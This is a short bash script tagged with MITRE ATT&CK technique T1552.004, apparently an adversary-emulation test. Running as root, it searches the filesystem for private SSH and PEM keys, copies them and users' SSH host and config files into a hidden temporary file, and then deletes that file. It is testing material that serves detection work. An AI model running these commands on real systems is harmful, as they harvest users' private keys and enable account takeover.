#!/bin/bash
# technique: T1552.004 Unsecured Credentials: Private Keys
# tactic: credential-access
# user: root
# does: collects the private keys of all users
# harmless: the keys are no keys

find / -xdev \( -name 'id_rsa' -o -name 'id_ed25519' -o -name '*.pem' \) -readable 2>/dev/null >/tmp/.keys
while read -r key; do cat "$key" >>/tmp/.collected; done </tmp/.keys
cat /home/*/.ssh/known_hosts /home/*/.ssh/config >>/tmp/.collected 2>/dev/null
rm /tmp/.keys /tmp/.collected
